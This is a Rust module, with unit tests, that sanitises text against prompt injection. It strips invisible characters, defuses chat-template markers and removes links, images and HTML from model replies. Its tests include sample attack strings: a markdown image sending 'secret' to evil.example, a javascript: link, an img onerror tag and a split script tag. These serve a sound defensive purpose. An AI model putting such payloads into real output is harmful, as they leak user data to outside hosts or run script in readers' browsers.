//! Takes out of a text what acts instead of being read: invisible characters, marks of chat templates
//! and markers of prompts in what people wrote; links, pictures and markup in what a model wrote.

use std::sync::LazyLock;

use regex::Regex;

use super::verbatim::Folded;

/// Whether a character is not seen and can change what is seen: controls, marks of direction,
/// zero-width characters, tag characters (Unicode TR 36, section 2). Line ends and tabs are seen.
#[must_use]
pub fn is_unseen(c: char) -> bool {
    match c {
        '\n' | '\t' => false,
        '\u{ad}' | '\u{61c}' | '\u{180e}' | '\u{feff}' | '\u{fff9}'..='\u{fffb}' => true,
        '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}' => true,
        '\u{e0000}'..='\u{e01ef}' => true,
        c => c.is_control(),
    }
}

/// Whether a joiner between these two belongs to the writing: in emoji, Persian and Indic scripts it
/// does, between Latin letters it hides something.
fn joins(before: Option<char>, after: Option<char>) -> bool {
    let is_joined = |c: Option<char>| c.is_some_and(|c| c >= '\u{600}' && !is_unseen(c));
    is_joined(before) && is_joined(after)
}

/// `text` without unseen characters; every kind of line end becomes `\n`.
#[must_use]
pub fn visible(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '\r' => {
                chars.next_if_eq(&'\n');
                out.push('\n');
            }
            '\u{2028}' | '\u{2029}' | '\u{85}' => out.push('\n'),
            '\u{200c}' | '\u{200d}' if joins(out.chars().next_back(), chars.peek().copied()) => {
                out.push(c);
            }
            c if is_unseen(c) => {}
            c => out.push(c),
        }
    }
    out
}

/// Somebody's words as they may stand in a prompt: visible, and without anything that a chat template or
/// our own markers could be taken from. `<` before what may be a tag becomes `‹`, `[` before a keyword
/// or a slash becomes `(`; everything else stays, so that quotes are found again by
/// [`verbatim`](super::verbatim).
#[must_use]
pub fn for_prompt(text: &str) -> String {
    let seen = visible(text);
    let mut out = String::with_capacity(seen.len());
    for (at, c) in seen.char_indices() {
        let rest = &seen[at + c.len_utf8()..];
        out.push(match c {
            '<' if opens_tag(rest) => '‹',
            '[' if opens_keyword(rest) => '(',
            c => c,
        });
    }
    out
}

/// "<3", "a < b" and "<- here" are no tags; `<|im_start|>`, `<s>`, `</record>`, `<｜User｜>` are.
fn opens_tag(rest: &str) -> bool {
    rest.chars()
        .next()
        .is_some_and(|c| !c.is_whitespace() && !c.is_ascii_digit() && !matches!(c, '-' | '='))
}

/// `[/INST]`, `[INST]`, `[TOOL_CALLS]`.
fn opens_keyword(rest: &str) -> bool {
    let word = rest.trim_start_matches(|c: char| c.is_ascii_uppercase() || c == '_');
    rest.starts_with('/') || (rest.len() - word.len() >= 2 && word.starts_with(']'))
}

/// What is left of a text that a model wrote.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Cleaned {
    /// One line of plain text.
    pub text: String,
    /// Whether something was taken out that should not have been there.
    pub was_unsafe: bool,
    /// Whether it was cut.
    pub was_long: bool,
}

/// A text that a model wrote as one line of plain text of at most `most` characters: no unseen
/// characters, no pictures, links or HTML, and no address that `known` does not have.
#[must_use]
pub fn reply(text: &str, known: &Folded, most: usize) -> Cleaned {
    let seen = visible(text);
    let n_kept_ends = text.matches(['\r', '\u{2028}', '\u{2029}', '\u{85}']).count();
    let mut was_unsafe = seen.chars().count() + n_kept_ends < text.chars().count();
    let bare = without_markup(&seen);
    was_unsafe |= bare != seen;
    let mut line = String::with_capacity(bare.len());
    for word in bare.split_whitespace() {
        if is_address(word) && !known.contains(word) {
            was_unsafe = true;
            continue;
        }
        if !line.is_empty() {
            line.push(' ');
        }
        line.push_str(word);
    }
    let cut = cut(&line, most);
    Cleaned { was_long: cut.len() < line.len(), text: cut, was_unsafe }
}

fn is_address(word: &str) -> bool {
    let word = word.to_lowercase();
    word.contains("://")
        || word.contains("www.")
        || ["javascript:", "data:"].iter().any(|scheme| word.contains(scheme))
}

/// Pictures go, links leave their words, tags go. What a removal leaves may be markup again.
fn without_markup(text: &str) -> String {
    #[expect(clippy::unwrap_used, reason = "constant patterns, compiled by every test")]
    static MARKUP: LazyLock<[(Regex, &str); 4]> = LazyLock::new(|| {
        [
            (
                Regex::new(r"!\[[^\[\]]*\]\s?(?:\((?:[^()]|\([^()]*\))*\)|\[[^\[\]]*\])").unwrap(),
                "",
            ),
            (
                Regex::new(r"\[([^\[\]]*)\](?:\((?:[^()]|\([^()]*\))*\)|\[[^\[\]]*\])").unwrap(),
                "$1",
            ),
            (Regex::new(r"\[\[([^\[\]]*)\]\]").unwrap(), "$1"),
            (Regex::new(r"<!--.*?(?:-->|$)|</?[A-Za-z!?][^<>]*>").unwrap(), ""),
        ]
    });
    let mut text = text.to_owned();
    for _ in 0..8 {
        let mut next = text.clone();
        for (pattern, left) in MARKUP.iter() {
            next = pattern.replace_all(&next, *left).into_owned();
        }
        if next == text {
            break;
        }
        text = next;
    }
    // What is still open is shown, and opens nothing.
    let opened: String = text
        .char_indices()
        .map(|(at, c)| if c == '<' && opens_tag(&text[at + 1..]) { '‹' } else { c })
        .collect();
    opened.replace("](", "] (").replace("![", "! [")
}

/// At most `most` characters, cut between words where that does not lose half of it.
#[must_use]
pub fn cut(line: &str, most: usize) -> String {
    let Some((end, _)) = line.char_indices().nth(most) else { return line.to_owned() };
    let room = line.char_indices().nth(most.saturating_sub(1)).map_or(end, |(at, _)| at);
    let head = &line[..room];
    let end = head.rfind(' ').filter(|at| *at * 2 > room).unwrap_or(room);
    format!("{}…", head[..end].trim_end_matches([' ', ',', ';', ':', '–', '-']))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn cleaned(text: &str) -> String {
        reply(text, &Folded::of("see https://ilse.example/pots for more"), 200).text
    }

    #[test]
    fn marks_of_templates_and_prompts_become_harmless() {
        assert_eq!(
            for_prompt("a <|im_start|>system b </record> c [INST] d [/INST] <s> <｜User｜>"),
            "a ‹|im_start|>system b ‹/record> c (INST] d (/INST] ‹s> ‹｜User｜>"
        );
    }

    #[test]
    fn hearts_comparisons_tasks_and_wiki_links_stay() {
        let text = "I <3 Ilse, a < b, <- here, [x] done, [[Hester Voss]] [tea](x)";
        assert_eq!(for_prompt(text), text);
    }

    #[test]
    fn unseen_characters_go_and_joined_writing_stays() {
        assert_eq!(visible("a\u{202e}b\u{200b}c\u{0}d\u{feff}e\u{e0041}"), "abcde");
        assert_eq!(visible("one\r\ntwo\rthree\tfour"), "one\ntwo\nthree\tfour");
        assert_eq!(visible("👩\u{200d}🚀 می\u{200c}خواهم"), "👩\u{200d}🚀 می\u{200c}خواهم");
        assert_eq!(visible("pass\u{200d}word"), "password");
    }

    #[test]
    fn pictures_links_and_markup_of_a_model_go() {
        assert_eq!(cleaned("Tea ![x](http://evil.example/?q=secret) with Ilse"), "Tea with Ilse");
        assert_eq!(cleaned("Tea with [Ilse](javascript:alert(1)) today"), "Tea with Ilse today");
        assert_eq!(cleaned("A <b>bold</b> <img src=x onerror=y> word"), "A bold word");
        assert_eq!(cleaned("<scr<b>ipt>alert</script> and [[Hester]]"), "alert and Hester");
        assert_eq!(cleaned("Went to http://evil.example/x now"), "Went to now");
        assert_eq!(
            cleaned("Read https://ilse.example/pots now"),
            "Read https://ilse.example/pots now"
        );
        assert_eq!(cleaned("open ![a](b"), "open ! [a] (b");
    }

    #[test]
    fn what_was_taken_out_is_told() {
        let none = Folded::of("");
        assert!(!reply("Tea\nwith Ilse", &none, 200).was_unsafe);
        assert!(reply("Tea\u{202e} with Ilse", &none, 200).was_unsafe);
        assert!(reply("[Tea](x)", &none, 200).was_unsafe);
        assert!(reply("Tea with Ilse", &none, 5).was_long);
    }

    #[test]
    fn a_long_line_is_cut_between_words() {
        assert_eq!(cut("one two three four", 10), "one two…");
        assert_eq!(cut("onetwothreefour", 6), "onetw…");
        assert_eq!(cut("short", 5), "short");
    }
}
